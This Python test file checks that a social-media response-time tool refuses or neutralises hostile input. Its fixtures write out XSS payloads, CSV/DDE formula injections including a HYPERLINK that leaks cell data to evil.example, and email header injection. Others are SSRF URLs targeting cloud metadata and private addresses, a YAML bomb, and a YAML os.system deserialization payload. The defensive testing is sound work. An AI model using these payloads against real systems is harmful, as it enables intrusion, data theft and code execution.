"""Hostile input: post text, profile configuration, archive files.

Each case either gets a clear error (ConfigError / a ConnectorError) or is stored safely:
the stored item round-trips, stays under DynamoDB's item limit, and the report renders it
inert (escaped HTML, defused CSV formulas, no control characters in headers).
"""

from __future__ import annotations

import io
import json
import random
from typing import Any

import pytest
import requests

from responsegap.config import check_base_url
from responsegap.connectors.base import ConnectorError
from responsegap.connectors.http import PlatformHttp
from responsegap.connectors.x import XConnector
from responsegap.domain.model import Brand, BusinessHours, ConfigError, Post, Profile
from responsegap.store.items import (
    TEXT_LIMIT_BYTES,
    TRUNCATION_MARKER,
    item_to_post,
    post_to_item,
    stored_form,
)

PROFILE = Profile(brand_id="acme", platform="x", handle="acmehelp", account_id="1000")
BRAND = Brand(brand_id="acme", name="Acme", profiles=(PROFILE,), recipients=("lead@example.com",))
HOSTILE_TEXTS = {
    "html": "<script>alert(document.cookie)</script><img src=x onerror=\"fetch('//evil')\"> @AcmeHelp",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click") @AcmeHelp',
    "formula_plus": "+cmd|' /C calc'!A0 @AcmeHelp",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0 @AcmeHelp",
    "control": "@AcmeHelp \x00\x01\x07\x1b[31mred\x1b[0m\r\nBcc: victim@example.com\x7f",
    "rtl": "@AcmeHelp refund \u202eexe.fdp\u202c \u2066isolate\u2069 \u200b\ufeff",
    "emoji": "@AcmeHelp 👩\u200d👩\u200d👧 🇫🇷 \U0001f9d1\U0001f3fd\u200d\U0001f4bb e\u0301",
    "lone_surrogate": "@AcmeHelp broken emoji \ud83d here",
    "huge": "@AcmeHelp " + "A" * (1024 * 1024),
    "huge_multibyte": "@AcmeHelp " + "€" * 400_000,
}


class FakeSession(requests.Session):
    """Answers every request with the next of ``bodies`` (bytes), status 200."""

    def __init__(self, bodies: list[bytes]) -> None:
        super().__init__()
        self.bodies = list(bodies)

    def request(self, method: str, url: str, *args: Any, **kwargs: Any) -> requests.Response:  # type: ignore[override]
        response = requests.Response()
        response.status_code = 200
        response._content = self.bodies.pop(0) if self.bodies else b'{"meta": {"result_count": 0}}'
        response.headers["content-type"] = "application/json"
        response.url = url
        response.encoding = "utf-8"
        return response


def mentions_page(text: str, post_id: str = "1861000000000000999") -> dict[str, Any]:
    return {
        "data": [
            {
                "id": post_id,
                "text": text,
                "author_id": "2001",
                "created_at": "2026-11-23T10:00:00.000Z",
                "entities": {"mentions": [{"username": "AcmeHelp"}]},
            }
        ],
        "includes": {"users": [{"id": "2001", "username": "alice_w"}]},
        "meta": {"result_count": 1, "newest_id": post_id},
    }


def fetch(bodies: list[bytes]) -> Any:
    http = PlatformHttp(PROFILE.key, FakeSession(bodies), sleep=lambda _s: None)
    return XConnector(PROFILE, http, {"bearer_token": "t"}).fetch({})


@pytest.mark.parametrize("name", sorted(set(HOSTILE_TEXTS) - {"lone_surrogate"}))
def test_hostile_text_is_read_and_stored_safely(name: str) -> None:
    text = HOSTILE_TEXTS[name]
    result = fetch([json.dumps(mentions_page(text)).encode()])
    (post,) = result.posts
    assert post.text == text  # the connector keeps what the platform said
    item = post_to_item(PROFILE.key, stored_form(post), expires_at=1)
    encoded = json.dumps(item, ensure_ascii=False).encode("utf-8", errors="surrogatepass")
    assert len(encoded) < 400 * 1024  # DynamoDB's item limit
    back = item_to_post(item)
    if len(text.encode("utf-8", errors="surrogatepass")) > TEXT_LIMIT_BYTES:
        assert back.text.endswith(TRUNCATION_MARKER)
        assert len(back.text.encode("utf-8")) <= TEXT_LIMIT_BYTES
        assert text.startswith(back.text.removesuffix(TRUNCATION_MARKER))
    else:
        assert back == post


def test_a_lone_surrogate_does_not_stop_the_store() -> None:
    from responsegap.store.items import body_hash

    post = Post("x", "1", "2001", "alice_w", 1, HOSTILE_TEXTS["lone_surrogate"], mentions=("acmehelp",))
    stored = stored_form(post)
    assert body_hash(stored)
    json.dumps(post_to_item(PROFILE.key, stored, expires_at=1), ensure_ascii=False).encode("utf-8")


def test_invalid_utf8_bytes_in_a_payload_are_replaced_or_refused() -> None:
    body = json.dumps(mentions_page("PLACEHOLDER")).encode()
    body = body.replace(b"PLACEHOLDER", b"bad \xff\xfe\xc3( bytes")
    try:
        result = fetch([body])
    except ConnectorError as error:
        assert "x#acmehelp" in str(error)
        return
    (post,) = result.posts
    assert "\ufffd" in post.text  # decoded with replacement characters...
    post.text.encode("utf-8")  # ...so it is valid text and stores as such


@pytest.mark.parametrize(
    "body",
    [b"", b"\x00\x01\x02", b"<html>502</html>", b'{"data": [', b"null", b"[]", b'"text"', b"1e999999"],
)
def test_bodies_that_are_not_a_page_give_a_connector_error(body: bytes) -> None:
    with pytest.raises(ConnectorError):
        fetch([body])


def test_deeply_nested_json_gives_a_connector_error_not_a_crash() -> None:
    body = b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    with pytest.raises(ConnectorError):
        fetch([body])


# ----------------------------------------------------------------------------- reports


class _Store:
    """The read side of the store for one brand's week, in memory."""

    def __init__(self, posts: list[Post]) -> None:
        self.posts = posts

    def posts_between(self, _key: str, start: int, end: int) -> list[Post]:
        return [p for p in self.posts if start <= p.created_at < end]

    def completeness(self, *_a: Any, **_k: Any) -> dict[str, int]:
        return {"polls_planned": 1, "polls_succeeded": 1, "polls_failed": 0, "longest_blind_seconds": 0}

    def recent_snapshots(self, *_a: Any, **_k: Any) -> list[Any]:
        return []

    def __getattr__(self, name: str) -> Any:  # anything else the composer may ask: nothing stored
        return lambda *_a, **_k: []


def hostile_week() -> list[Post]:
    from responsegap.domain.periods import parse_instant

    start = parse_instant("2026-11-23T10:00:00Z")
    posts = []
    for n, (name, text) in enumerate(sorted(HOSTILE_TEXTS.items())):
        if name == "lone_surrogate":
            continue
        customer = Post(
            "x",
            f"c{n}",
            f"20{n}",
            f"<b>cust{n}</b>",
            start + n * 600,
            text[:2000],
            mentions=("acmehelp",),
            url=f"javascript:alert({n})",
        )
        reply = Post(
            "x",
            f"r{n}",
            "1000",
            "acmehelp",
            start + n * 600 + 300,
            "=1+1 <script>x</script> ^JK",
            in_reply_to_id=f"c{n}",
            url="https://x.com/acmehelp/status/1",
        )
        posts += [customer, reply]
    return posts


def test_the_report_renders_hostile_posts_inert() -> None:
    from responsegap.report import csv_export, render
    from responsegap.report.compose import compose_weekly_report
    from responsegap.report.mime import build_message

    report = compose_weekly_report(_Store(hostile_week()), BRAND, "2026-W48", 1796000000)
    html = render.render_html(report)
    assert "<script" not in html.lower() and "onerror=" not in html.lower()
    assert "javascript:" not in html.lower()
    text = render.render_text(report)
    assert not any(c in text for c in "\x00\x01\x07\x1b\x7f")
    table = csv_export.to_csv(report).decode("utf-8-sig")
    import csv

    for row in csv.reader(io.StringIO(table)):
        for cell in row:
            assert (
                not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                or cell.lstrip("-").replace(".", "").isdigit()
            )
            assert not any(c in cell for c in "\x00\x07\x1b")
    message = build_message(report, "reports@example.com", ["lead@example.com"])
    for header, value in message.items():
        assert "\n" not in value.replace("\r\n ", "").replace("\n ", "") and "Bcc" not in header


def test_a_brand_name_with_a_header_injection_is_refused_or_inert() -> None:
    from responsegap.report.compose import compose_weekly_report
    from responsegap.report.mime import build_message

    brand = Brand(brand_id="acme", name="Acme\r\nBcc: victim@example.com", profiles=(PROFILE,))
    report = compose_weekly_report(_Store([]), brand, "2026-W48", 1796000000)
    try:
        message = build_message(report, "reports@example.com", ["lead@example.com"])
    except (ValueError, ConfigError):
        return
    assert "Bcc" not in message and "victim@example.com" not in str(message["To"])


# ----------------------------------------------------------------------------- configuration

HOSTILE_URLS = [
    "http://api.example.com",
    "ftp://api.example.com",
    "file:///etc/passwd",
    "https://169.254.169.254/latest/meta-data",
    "https://[::1]/",
    "https://[::ffff:169.254.169.254]/",
    "https://[fd00::1]/",
    "https://10.0.0.8/",
    "https://192.168.1.1/",
    "https://127.0.0.1:8443/",
    "https://localhost/",
    "https://metadata.google.internal/",
    "https://user:pass@api.example.com/",
    "https:///nohost",
    "javascript:alert(1)",
]
# Other spellings of 169.254.169.254 and 127.0.0.1 that the C resolver accepts.
ALTERNATE_IPV4 = [
    "https://2852039166/",
    "https://0xa9fea9fe/",
    "https://169.254.43518/",
    "https://0251.0376.0251.0376/",
    "https://127.1/",
    "https://0/",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_hostile_base_urls_are_refused(url: str) -> None:
    with pytest.raises(ConfigError):
        check_base_url(url)


@pytest.mark.parametrize("url", ALTERNATE_IPV4)
def test_other_spellings_of_private_addresses_are_refused(url: str) -> None:
    with pytest.raises(ConfigError):
        check_base_url(url)


def test_the_poller_checks_the_stored_base_url_again() -> None:
    from responsegap.config import Settings
    from responsegap.pipeline.common import connector_factory

    class NoCredentials:
        def get(self, _profile: Profile) -> dict[str, str]:
            return {"bearer_token": "t"}

    build = connector_factory(Settings(table_name="t"), NoCredentials())
    # A profile written to the table by hand, around the import's validation.
    tampered = Profile(
        brand_id="acme", platform="x", handle="acmehelp", account_id="1", base_url="https://10.1.2.3"
    )
    with pytest.raises(ConfigError):
        build(tampered)


@pytest.mark.parametrize(
    "fields",
    [
        {"platform": "myspace"},
        {"platform": ""},
        {"timezone": "Mars/Olympus"},
        {"timezone": "../../etc/passwd"},
        {"timezone": ""},
        {"handle": "Acme Help"},
        {"handle": "acme\nhelp"},
        {"handle": ""},
        {"sla_seconds": 0},
        {"poll_interval_seconds": 1},
    ],
)
def test_hostile_profile_fields_are_refused(fields: dict[str, Any]) -> None:
    values = {"brand_id": "acme", "platform": "x", "handle": "acmehelp"} | fields
    with pytest.raises(ConfigError):
        Profile(**values)


@pytest.mark.parametrize(
    "spec",
    [
        {"mon": "25:00-26:00"},
        {"mon": "17:00-09:00"},
        {"funday": "09:00-17:00"},
        {"mon": "9-5"},
        "all day",
        [1, 2],
    ],
)
def test_bad_business_hours_are_refused(spec: Any) -> None:
    with pytest.raises(ConfigError):
        BusinessHours.parse(spec)


def test_empty_business_hours_are_allowed_and_every_second_is_out_of_hours() -> None:
    from responsegap.domain.business_hours import business_seconds

    closed = BusinessHours.parse({})
    assert closed.is_empty
    assert business_seconds(1795428000, 1795428000 + 7 * 86400, "UTC", closed) == 0


BRANDS = "brands:\n- id: acme\n  timezone: {tz}\n  recipients: [a@acme.example]\n  profiles:\n  - {profile}\n"


def test_hostile_brands_files_are_refused(tmp_path: Any) -> None:
    from responsegap.brands_file import load_brands_file

    cases = {
        "bomb.yaml": "a: &a [x, x, x, x, x, x, x, x, x]\n"
        + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
            for i in range(9)
        )
        + "brands: []\n",
        "python.yaml": "brands: !!python/object/apply:os.system ['echo pwned']\n",
        "binary.yaml": "\x00\x01\x02",
        "notutf8.yaml": None,
        "imds.yaml": BRANDS.format(
            tz="UTC", profile="{platform: x, handle: acme, base_url: 'https://169.254.169.254'}"
        ),
        "unknown.yaml": BRANDS.format(tz="UTC", profile="{platform: myspace, handle: acme}"),
        "tz.yaml": BRANDS.format(tz="Nowhere/Land", profile="{platform: x, handle: acme}"),
    }
    for name, text in cases.items():
        path = tmp_path / name
        if text is None:
            path.write_bytes(b"brands: \xff\xfe\n")
        else:
            path.write_text(text, encoding="utf-8")
        with pytest.raises(ConfigError):
            load_brands_file(path)


def test_malformed_archive_files_are_skipped_or_refused(tmp_path: Any) -> None:
    from responsegap.archive.twcs import ReadStats, read_twcs

    rng = random.Random(5)
    header = "tweet_id,author_id,inbound,created_at,text,response_tweet_id,in_response_to_tweet_id\n"
    when = "Tue Oct 31 22:10:47 +0000 2017"
    good = f'1,115712,True,{when},"@sprintcare hi",2,\n'
    cases = {
        "garbage.csv": bytes(rng.randrange(256) for _ in range(4096)),
        "nul.csv": (header + good.replace("hi", "h\x00i")).encode(),
        "open_quote.csv": (
            header + '2,1,True,Tue Oct 31 22:10:47 +0000 2017,"never closed\n' + good * 3
        ).encode(),
        "huge_field.csv": (
            header + '3,1,True,Tue Oct 31 22:10:47 +0000 2017,"' + "x" * (3 << 20) + '",,\n' + good
        ).encode(),
        "formula.csv": (header + '4,=cmd|calc,True,Tue Oct 31 22:10:47 +0000 2017,"=1+1",,\n').encode(),
        "wrong_types.csv": (header + "x,y,maybe,yesterday,t,z,w\n" + good).encode(),
        "header_only.csv": header.encode(),
        "empty.csv": b"",
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        stats = ReadStats()
        try:
            posts = list(read_twcs(path, stats))
        except ConfigError:
            continue
        for post in posts:
            assert isinstance(post, Post) and isinstance(post.created_at, int) and post.post_id
            assert "\x00" not in post.post_id
        assert stats.posts == len(posts)
